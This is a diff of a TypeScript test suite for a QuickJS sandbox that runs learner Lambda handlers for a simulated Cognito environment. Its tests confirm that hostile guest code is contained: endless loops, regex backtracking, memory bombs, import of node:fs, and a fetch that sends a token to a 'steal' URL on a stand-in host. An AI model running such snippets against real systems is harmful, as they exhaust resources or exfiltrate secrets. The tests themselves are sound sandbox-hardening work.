@@ -17,10 +17,14 @@ function seeded(seed: number): () => number {
 }
 
 const runtime = createQuickJsRuntime({ guestClock: { now: () => NOW }, random: seeded(1) });
-const run = (code: string, event: object = {}, limits = LIMITS) => runtime.invoke(code, event, limits);
+const run = (code: string, event: object = {}, limits = LIMITS) =>
+	runtime.invoke(code, event, limits);
 
 function ok(result: InvocationResult): unknown {
-	if (!result.ok) throw new Error(`expected success, got ${result.kind}: ${result.message}\n${result.logs.join('\n')}`);
+	if (!result.ok)
+		throw new Error(
+			`expected success, got ${result.kind}: ${result.message}\n${result.logs.join('\n')}`
+		);
 	return result.value;
 }
 function failure(result: InvocationResult) {
@@ -29,7 +33,9 @@ function failure(result: InvocationResult) {
 }
 /** After every hostile case the same runtime must still run ordinary code. */
 async function expectStillWorks() {
-	expect(ok(await run('export const handler = async (event) => ({ ...event, fine: true });', { n: 1 }))).toEqual({ n: 1, fine: true });
+	expect(
+		ok(await run('export const handler = async (event) => ({ ...event, fine: true });', { n: 1 }))
+	).toEqual({ n: 1, fine: true });
 }
 
 const preSignUpEvent = {
@@ -47,21 +53,41 @@ describe('handler forms', () => {
 	test.each([
 		['export const (async arrow)', 'export const handler = async (event) => ({ got: event.x });'],
 		['export async function', 'export async function handler(event) { return { got: event.x }; }'],
-		['export function returning a promise', 'export function handler(event) { return Promise.resolve({ got: event.x }); }'],
+		[
+			'export function returning a promise',
+			'export function handler(event) { return Promise.resolve({ got: event.x }); }',
+		],
 		['exports.handler', 'exports.handler = async (event, context) => ({ got: event.x });'],
 		['module.exports.handler', 'module.exports.handler = async (event) => ({ got: event.x });'],
-		['module.exports = { handler }', 'const handler = async (event) => ({ got: event.x });\nmodule.exports = { handler };'],
-		['callback style', 'exports.handler = function (event, context, callback) { callback(null, { got: event.x }); };'],
-		['callback after a timer', 'exports.handler = (event, context, callback) => { setTimeout(() => callback(null, { got: event.x }), 50); };'],
-		['context.succeed (legacy)', 'exports.handler = (event, context) => { context.succeed({ got: event.x }); };'],
+		[
+			'module.exports = { handler }',
+			'const handler = async (event) => ({ got: event.x });\nmodule.exports = { handler };',
+		],
+		[
+			'callback style',
+			'exports.handler = function (event, context, callback) { callback(null, { got: event.x }); };',
+		],
+		[
+			'callback after a timer',
+			'exports.handler = (event, context, callback) => { setTimeout(() => callback(null, { got: event.x }), 50); };',
+		],
+		[
+			'context.succeed (legacy)',
+			'exports.handler = (event, context) => { context.succeed({ got: event.x }); };',
+		],
 		['plain sync function', 'exports.handler = (event) => ({ got: event.x });'],
-		['module with top-level await', 'const x = await Promise.resolve(1);\nexport const handler = async (event) => ({ got: event.x * x });'],
+		[
+			'module with top-level await',
+			'const x = await Promise.resolve(1);\nexport const handler = async (event) => ({ got: event.x * x });',
+		],
 	])('%s', async (_name, code) => {
 		expect(ok(await run(code, { x: 7 }))).toEqual({ got: 7 });
 	});
 
 	test('the event round-trips unchanged', async () => {
-		expect(ok(await run('export const handler = async (event) => event;', preSignUpEvent))).toEqual(preSignUpEvent);
+		expect(ok(await run('export const handler = async (event) => event;', preSignUpEvent))).toEqual(
+			preSignUpEvent
+		);
 	});
 
 	test('a PreSignUp trigger that auto-confirms returns the modified event', async () => {
@@ -73,7 +99,11 @@ describe('handler forms', () => {
 			return event;
 		};`;
 		const value = ok(await run(code, preSignUpEvent)) as typeof preSignUpEvent;
-		expect(value.response).toEqual({ autoConfirmUser: true, autoVerifyEmail: true, autoVerifyPhone: false });
+		expect(value.response).toEqual({
+			autoConfirmUser: true,
+			autoVerifyEmail: true,
+			autoVerifyPhone: false,
+		});
 		expect(preSignUpEvent.response.autoConfirmUser).toBe(false); // the host's object is untouched
 	});
 
@@ -88,15 +118,23 @@ describe('handler forms', () => {
 	});
 
 	test('the Lambda context object is there', async () => {
-		const value = ok(await run('export const handler = async (event, context) => ({ name: context.functionName, left: context.getRemainingTimeInMillis(), id: context.awsRequestId });')) as Record<string, unknown>;
+		const value = ok(
+			await run(
+				'export const handler = async (event, context) => ({ name: context.functionName, left: context.getRemainingTimeInMillis(), id: context.awsRequestId });'
+			)
+		) as Record<string, unknown>;
 		expect(value).toMatchObject({ name: 'learner-function', left: LIMITS.timeoutMs });
-		expect(value.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
+		expect(value.id).toMatch(
+			/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/
+		);
 	});
 });
 
 describe('failures map to the right kind with a learner-friendly message', () => {
 	test('a syntax error is a crash with line and column', async () => {
-		const result = failure(await run('export const handler = async (event) => {\n  return event +;\n};'));
+		const result = failure(
+			await run('export const handler = async (event) => {\n  return event +;\n};')
+		);
 		expect(result.kind).toBe('crash');
 		expect(result.message).toMatch(/^SyntaxError: .+ at line 2, column \d+ of index\.mjs$/);
 		await expectStillWorks();
@@ -104,21 +142,34 @@ describe('failures map to the right kind with a learner-friendly message', () =>
 
 	test('a syntax error in CommonJS code names index.js', async () => {
 		const result = failure(await run('exports.handler = async () => {\n  return {;\n};'));
-		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/SyntaxError: .+ at line 2, column \d+ of index\.js/) });
+		expect(result).toMatchObject({
+			kind: 'crash',
+			message: expect.stringMatching(/SyntaxError: .+ at line 2, column \d+ of index\.js/),
+		});
 	});
 
 	test('a missing handler export is a crash that says what to export', async () => {
 		const result = failure(await run('export const handle = async (event) => event;'));
 		expect(result.kind).toBe('crash');
-		expect(result.message).toMatch(/^index\.handler is undefined or not exported\. Export a function named handler/);
-		expect(failure(await run('export const handler = 42;')).message).toMatch(/index\.handler is not a function \(it is a number\)/);
+		expect(result.message).toMatch(
+			/^index\.handler is undefined or not exported\. Export a function named handler/
+		);
+		expect(failure(await run('export const handler = 42;')).message).toMatch(
+			/index\.handler is not a function \(it is a number\)/
+		);
 		await expectStillWorks();
 	});
 
 	test('a thrown Error is an error carrying its message, with the stack logged', async () => {
-		const result = failure(await run('export const handler = async () => {\n  throw new Error("Email domain not allowed");\n};'));
+		const result = failure(
+			await run(
+				'export const handler = async () => {\n  throw new Error("Email domain not allowed");\n};'
+			)
+		);
 		expect(result).toMatchObject({ kind: 'error', message: 'Email domain not allowed' });
-		expect(result.logs.at(-1)).toMatch(/^Invoke Error: Error: Email domain not allowed\n\s+at handler \(index\.mjs:2:\d+\)/);
+		expect(result.logs.at(-1)).toMatch(
+			/^Invoke Error: Error: Email domain not allowed\n\s+at handler \(index\.mjs:2:\d+\)/
+		);
 		await expectStillWorks();
 	});
 
@@ -130,24 +181,42 @@ describe('failures map to the right kind with a learner-friendly message', () =>
 		['a rejected promise with a string', 'return Promise.reject("nope");', 'nope'],
 		['a callback error', 'callback(new Error("via callback"));', 'via callback'],
 	])('throwing %s is an error', async (_name, body, message) => {
-		const result = failure(await run(`exports.handler = async (event, context, callback) => { ${body} };`));
+		const result = failure(
+			await run(`exports.handler = async (event, context, callback) => { ${body} };`)
+		);
 		expect(result).toMatchObject({ kind: 'error', message });
 		await expectStillWorks();
 	});
 
 	test('an error thrown while loading is a crash', async () => {
-		const result = failure(await run('throw new TypeError("bad config");\nexport const handler = async () => 1;'));
-		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/failed while loading.*TypeError: bad config \(line 1, column \d+\)/) });
+		const result = failure(
+			await run('throw new TypeError("bad config");\nexport const handler = async () => 1;')
+		);
+		expect(result).toMatchObject({
+			kind: 'crash',
+			message: expect.stringMatching(
+				/failed while loading.*TypeError: bad config \(line 1, column \d+\)/
+			),
+		});
 	});
 
 	test('an error thrown in a timer ends the invocation as an error', async () => {
-		const result = failure(await run('export const handler = async () => { setTimeout(() => { throw new Error("in timer"); }, 10); await new Promise((r) => setTimeout(r, 100)); };'));
+		const result = failure(
+			await run(
+				'export const handler = async () => { setTimeout(() => { throw new Error("in timer"); }, 10); await new Promise((r) => setTimeout(r, 100)); };'
+			)
+		);
 		expect(result).toMatchObject({ kind: 'error', message: 'in timer' });
 	});
 
 	test('a result that cannot be serialised is an error', async () => {
-		const result = failure(await run('export const handler = async () => { const a = {}; a.self = a; return a; };'));
-		expect(result).toMatchObject({ kind: 'error', message: expect.stringMatching(/Unable to stringify the response/) });
+		const result = failure(
+			await run('export const handler = async () => { const a = {}; a.self = a; return a; };')
+		);
+		expect(result).toMatchObject({
+			kind: 'error',
+			message: expect.stringMatching(/Unable to stringify the response/),
+		});
 	});
 });
 
@@ -162,47 +231,84 @@ describe('hostile code is contained and reported', () => {
 	});
 
 	test('an endless async chain is stopped too (pending jobs respect the limit)', async () => {
-		expect(failure(await run('export const handler = async () => { for (;;) await null; };')).kind).toBe('timeout');
+		expect(
+			failure(await run('export const handler = async () => { for (;;) await null; };')).kind
+		).toBe('timeout');
 		await expectStillWorks();
 	});
 
 	test('an endless loop at the top level of the module is stopped', async () => {
-		expect(failure(await run('while (true) {}\nexport const handler = async () => 1;')).kind).toBe('timeout');
+		expect(failure(await run('while (true) {}\nexport const handler = async () => 1;')).kind).toBe(
+			'timeout'
+		);
 		await expectStillWorks();
 	});
 
 	test('catastrophic regular-expression backtracking is stopped', async () => {
-		expect(failure(await run('export const handler = async () => /(a+)+b/.test("a".repeat(40));')).kind).toBe('timeout');
+		expect(
+			failure(await run('export const handler = async () => /(a+)+b/.test("a".repeat(40));')).kind
+		).toBe('timeout');
 		await expectStillWorks();
 	});
 
 	test('a memory bomb fails as a crash that mentions memory', async () => {
-		const result = failure(await run("export const handler = async () => { const a = []; for (;;) a.push('x'.repeat(1e6)); };", {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
+		const result = failure(
+			await run(
+				"export const handler = async () => { const a = []; for (;;) a.push('x'.repeat(1e6)); };",
+				{},
+				{ timeoutMs: 5000, memoryBytes: 32 * MB }
+			)
+		);
 		expect(result.kind).toBe('crash');
 		expect(result.message).toMatch(/out of memory.*32 MB memory limit/);
 		await expectStillWorks();
 	});
 
 	test('a bomb of typed arrays is capped as well', async () => {
-		const result = failure(await run('export const handler = async () => { const a = []; for (;;) a.push(new Uint8Array(4e6)); };', {}, { timeoutMs: 5000, memoryBytes: 16 * MB }));
+		const result = failure(
+			await run(
+				'export const handler = async () => { const a = []; for (;;) a.push(new Uint8Array(4e6)); };',
+				{},
+				{ timeoutMs: 5000, memoryBytes: 16 * MB }
+			)
+		);
 		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/memory/) });
 		await expectStillWorks();
 	});
 
 	test('a bomb of small objects (where QuickJS can only throw null) is reported as memory too', async () => {
-		const result = failure(await run('export const handler = async () => { const a = []; for (;;) a.push({ a: [1, 2, 3] }); };', {}, { timeoutMs: 5000, memoryBytes: 16 * MB }));
-		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/out of memory/) });
+		const result = failure(
+			await run(
+				'export const handler = async () => { const a = []; for (;;) a.push({ a: [1, 2, 3] }); };',
+				{},
+				{ timeoutMs: 5000, memoryBytes: 16 * MB }
+			)
+		);
+		expect(result).toMatchObject({
+			kind: 'crash',
+			message: expect.stringMatching(/out of memory/),
+		});
 		await expectStillWorks();
 	});
 
 	test('deep recursion fails with a stack error', async () => {
-		const result = failure(await run('export const handler = async () => { const f = (n) => f(n + 1) + 1; return f(0); };'));
+		const result = failure(
+			await run(
+				'export const handler = async () => { const f = (n) => f(n + 1) + 1; return f(0); };'
+			)
+		);
 		expect(result).toMatchObject({ kind: 'error', message: 'Maximum call stack size exceeded' });
 		await expectStillWorks();
 	});
 
 	test('ordinary recursion depth still works', async () => {
-		expect(ok(await run('export const handler = async () => { const f = (n) => (n === 0 ? 0 : 1 + f(n - 1)); return f(500); };'))).toBe(500);
+		expect(
+			ok(
+				await run(
+					'export const handler = async () => { const f = (n) => (n === 0 ? 0 : 1 + f(n - 1)); return f(500); };'
+				)
+			)
+		).toBe(500);
 	});
 
 	test('tampering with built-ins stays inside that invocation', async () => {
@@ -219,60 +325,129 @@ describe('hostile code is contained and reported', () => {
 			polluted: ({}).polluted ?? null, map: typeof [].map, parse: JSON.parse('1'), leftover: typeof globalThis.leftover,
 			then: await Promise.resolve('fine'),
 		});`;
-		expect(ok(await run(check))).toEqual({ polluted: null, map: 'function', parse: 1, leftover: 'undefined', then: 'fine' });
+		expect(ok(await run(check))).toEqual({
+			polluted: null,
+			map: 'function',
+			parse: 1,
+			leftover: 'undefined',
+			then: 'fine',
+		});
 		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
 		expect(typeof [].map).toBe('function');
 		expect(JSON.parse('1')).toBe(1);
 	});
 
 	test('one invocation cannot see another', async () => {
-		const code = 'globalThis.count = (globalThis.count ?? 0) + 1; export const handler = async () => globalThis.count;';
+		const code =
+			'globalThis.count = (globalThis.count ?? 0) + 1; export const handler = async () => globalThis.count;';
 		expect(ok(await run(code))).toBe(1);
 		expect(ok(await run(code))).toBe(1);
 	});
 
 	test('fetch is refused with a clear message', async () => {
-		const result = failure(await run('export const handler = async () => { await fetch("https://example.com/steal?token=1"); };'));
-		expect(result).toMatchObject({ kind: 'error', message: expect.stringMatching(/no network.*https:\/\/example\.com\/steal\?token=1 was not sent/) });
+		const result = failure(
+			await run(
+				'export const handler = async () => { await fetch("https://example.com/steal?token=1"); };'
+			)
+		);
+		expect(result).toMatchObject({
+			kind: 'error',
+			message: expect.stringMatching(
+				/no network.*https:\/\/example\.com\/steal\?token=1 was not sent/
+			),
+		});
 		await expectStillWorks();
 	});
 
 	test('the page, storage, network and host objects do not exist in the guest', async () => {
-		const names = ['window', 'document', 'localStorage', 'sessionStorage', 'indexedDB', 'navigator', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'postMessage', 'caches', 'Deno', 'Bun'];
+		const names = [
+			'window',
+			'document',
+			'localStorage',
+			'sessionStorage',
+			'indexedDB',
+			'navigator',
+			'XMLHttpRequest',
+			'WebSocket',
+			'importScripts',
+			'postMessage',
+			'caches',
+			'Deno',
+			'Bun',
+		];
 		const code = `export const handler = async () => ({ ${names.map((name) => `${name}: typeof ${name}`).join(', ')}, versions: typeof process.versions });`;
-		expect(ok(await run(code))).toEqual(Object.fromEntries([...names.map((name) => [name, 'undefined']), ['versions', 'undefined']]));
+		expect(ok(await run(code))).toEqual(
+			Object.fromEntries([...names.map((name) => [name, 'undefined']), ['versions', 'undefined']])
+		);
 	});
 
 	test('dynamic import() fails with a clear message', async () => {
-		const result = failure(await run('export const handler = async () => { await import("node:fs"); };'));
-		expect(result).toMatchObject({ kind: 'error', message: expect.stringMatching(/^Cannot import 'node:fs': the Cognito sandbox runs your function on its own/) });
+		const result = failure(
+			await run('export const handler = async () => { await import("node:fs"); };')
+		);
+		expect(result).toMatchObject({
+			kind: 'error',
+			message: expect.stringMatching(
+				/^Cannot import 'node:fs': the Cognito sandbox runs your function on its own/
+			),
+		});
 		await expectStillWorks();
 	});
 
 	test('a static import of anything but crypto fails while loading', async () => {
-		const result = failure(await run("import { S3Client } from '@aws-sdk/client-s3';\nexport const handler = async () => 1;"));
-		expect(result).toMatchObject({ kind: 'crash', message: expect.stringMatching(/Cannot import '@aws-sdk\/client-s3'/) });
+		const result = failure(
+			await run(
+				"import { S3Client } from '@aws-sdk/client-s3';\nexport const handler = async () => 1;"
+			)
+		);
+		expect(result).toMatchObject({
+			kind: 'crash',
+			message: expect.stringMatching(/Cannot import '@aws-sdk\/client-s3'/),
+		});
 		await expectStillWorks();
 	});
 
 	test('require knows only crypto', async () => {
-		expect(failure(await run("const fs = require('fs');\nexports.handler = async () => 1;")).message).toMatch(/Cannot find module 'fs'/);
-		expect(ok(await run("const { randomUUID } = require('crypto');\nexports.handler = async () => randomUUID().length;"))).toBe(36);
-		expect(ok(await run("import { randomUUID } from 'node:crypto';\nexport const handler = async () => randomUUID().length;"))).toBe(36);
+		expect(
+			failure(await run("const fs = require('fs');\nexports.handler = async () => 1;")).message
+		).toMatch(/Cannot find module 'fs'/);
+		expect(
+			ok(
+				await run(
+					"const { randomUUID } = require('crypto');\nexports.handler = async () => randomUUID().length;"
+				)
+			)
+		).toBe(36);
+		expect(
+			ok(
+				await run(
+					"import { randomUUID } from 'node:crypto';\nexport const handler = async () => randomUUID().length;"
+				)
+			)
+		).toBe(36);
 	});
 });
 
 describe('console capture', () => {
 	test('console methods are captured in order', async () => {
-		const result = await run(`export const handler = async (event) => {
+		const result = await run(
+			`export const handler = async (event) => {
 			console.log('hello', event.userName);
 			console.info('info');
 			console.warn('warn');
 			console.error('error', new Error('oops'));
 			console.debug({ a: 1 });
 			return 1;
-		};`, { userName: 'alice' });
-		expect(result.logs).toEqual(['hello alice', 'info', 'warn', expect.stringMatching(/^error Error: oops\n\s+at handler/), '{ a: 1 }']);
+		};`,
+			{ userName: 'alice' }
+		);
+		expect(result.logs).toEqual([
+			'hello alice',
+			'info',
+			'warn',
+			expect.stringMatching(/^error Error: oops\n\s+at handler/),
+			'{ a: 1 }',
+		]);
 	});
 
 	test.each([
@@ -293,12 +468,16 @@ describe('console capture', () => {
 	});
 
 	test('output is capped in lines and size, with a note', async () => {
-		const result = await run('export const handler = async () => { for (let i = 0; i < 1000; i++) console.log("line", i); return "done"; };');
+		const result = await run(
+			'export const handler = async () => { for (let i = 0; i < 1000; i++) console.log("line", i); return "done"; };'
+		);
 		expect(ok(result)).toBe('done');
 		expect(result.logs).toHaveLength(201);
 		expect(result.logs[199]).toBe('line 199');
 		expect(result.logs[200]).toMatch(/^\[sandbox\] 800 more console lines dropped/);
-		const big = await run('export const handler = async () => { for (let i = 0; i < 10; i++) console.log("x".repeat(20000)); };');
+		const big = await run(
+			'export const handler = async () => { for (let i = 0; i < 10; i++) console.log("x".repeat(20000)); };'
+		);
 		expect(big.logs.join('').length).toBeLessThan(70 * 1024);
 		expect(big.logs.some((line) => line.endsWith('… [truncated]'))).toBe(true);
 	});
@@ -314,14 +493,52 @@ describe('time and randomness inside the guest', () => {
 		};`;
 		const started = performance.now();
 		const value = ok(await run(code, {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
-		expect(value).toEqual({ start: NOW, iso: '2026-01-01T00:00:00.000Z', waited: 1500, parsed: 0, isDate: true });
+		expect(value).toEqual({
+			start: NOW,
+			iso: '2026-01-01T00:00:00.000Z',
+			waited: 1500,
+			parsed: 0,
+			isDate: true,
+		});
 		expect(performance.now() - started).toBeLessThan(1000); // virtual time: nothing waited for real
+	});
+
+	test('local time is UTC, as in Lambda, whatever the host time zone', async () => {
+		const saved = process.env.TZ;
+		process.env.TZ = 'Asia/Kolkata';
+		try {
+			const code = `export const handler = async () => {
+				const d = new Date();
+				return [d.toString(), d.getHours(), d.getTimezoneOffset(), new Date(2026, 0, 1).toISOString(), new Date('2026-03-04T05:06:07').toISOString(), d.toLocaleString()];
+			};`;
+			expect(ok(await run(code))).toEqual([
+				'Thu Jan 01 2026 00:00:00 GMT+0000 (Coordinated Universal Time)',
+				0,
+				0,
+				'2026-01-01T00:00:00.000Z',
+				'2026-03-04T05:06:07.000Z',
+				'1/1/2026, 12:00:00 AM',
+			]);
+		} finally {
+			if (saved === undefined) delete process.env.TZ;
+			else process.env.TZ = saved;
+		}
 	});
 
 	test('a timer due after the limit is a timeout, reported without waiting', async () => {
 		const started = performance.now();
-		const result = failure(await run('export const handler = async () => { await new Promise((r) => setTimeout(r, 6000)); return 1; };', {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
-		expect(result).toMatchObject({ kind: 'timeout', message: 'Task timed out after 5.00 seconds', durationMs: 5000 });
+		const result = failure(
+			await run(
+				'export const handler = async () => { await new Promise((r) => setTimeout(r, 6000)); return 1; };',
+				{},
+				{ timeoutMs: 5000, memoryBytes: 32 * MB }
+			)
+		);
+		expect(result).toMatchObject({
+			kind: 'timeout',
+			message: 'Task timed out after 5.00 seconds',
+			durationMs: 5000,
+		});
 		expect(performance.now() - started).toBeLessThan(1000);
 	});
 
@@ -343,7 +560,11 @@ describe('time and randomness inside the guest', () => {
 	test('durationMs is measured with the injected host clock', async () => {
 		let t = 0;
 		const clocked = createQuickJsRuntime({ now: () => (t += 10), guestClock: { now: () => NOW } });
-		const result = await clocked.invoke('export const handler = async () => 1;', {}, { timeoutMs: 5000, memoryBytes: 32 * MB });
+		const result = await clocked.invoke(
+			'export const handler = async () => 1;',
+			{},
+			{ timeoutMs: 5000, memoryBytes: 32 * MB }
+		);
 		expect(ok(result)).toBe(1);
 		expect(result.durationMs % 10).toBe(0);
 		expect(result.durationMs).toBeGreaterThan(0);
@@ -353,15 +574,40 @@ describe('time and randomness inside the guest', () => {
 describe('the runtime as a whole', () => {
 	test('invocations from several runtimes at once all complete', async () => {
 		const others = [1, 2, 3].map(() => createQuickJsRuntime({ guestClock: { now: () => NOW } }));
-		const results = await Promise.all(others.flatMap((r, i) => [r.invoke('export const handler = async (e) => e.i * 2;', { i }, LIMITS), r.invoke('export const handler = async () => { while (true) {} };', {}, LIMITS)]));
-		expect(results.map((r) => (r.ok ? r.value : r.kind))).toEqual([0, 'timeout', 2, 'timeout', 4, 'timeout']);
+		const results = await Promise.all(
+			others.flatMap((r, i) => [
+				r.invoke('export const handler = async (e) => e.i * 2;', { i }, LIMITS),
+				r.invoke('export const handler = async () => { while (true) {} };', {}, LIMITS),
+			])
+		);
+		expect(results.map((r) => (r.ok ? r.value : r.kind))).toEqual([
+			0,
+			'timeout',
+			2,
+			'timeout',
+			4,
+			'timeout',
+		]);
 	});
 
-	test('a 5-second endless loop is stopped at Cognito’s real limit', { timeout: 10_000 }, async () => {
-		const result = failure(await run('export const handler = async () => { while (true) {} };', {}, { timeoutMs: 5000, memoryBytes: 32 * MB }));
-		expect(result).toMatchObject({ kind: 'timeout', message: 'Task timed out after 5.00 seconds' });
-		expect(result.durationMs).toBeGreaterThanOrEqual(5000);
-		expect(result.durationMs).toBeLessThan(5500);
-		await expectStillWorks();
-	});
+	test(
+		'a 5-second endless loop is stopped at Cognito’s real limit',
+		{ timeout: 10_000 },
+		async () => {
+			const result = failure(
+				await run(
+					'export const handler = async () => { while (true) {} };',
+					{},
+					{ timeoutMs: 5000, memoryBytes: 32 * MB }
+				)
+			);
+			expect(result).toMatchObject({
+				kind: 'timeout',
+				message: 'Task timed out after 5.00 seconds',
+			});
+			expect(result.durationMs).toBeGreaterThanOrEqual(5000);
+			expect(result.durationMs).toBeLessThan(5500);
+			await expectStillWorks();
+		}
+	);
 });
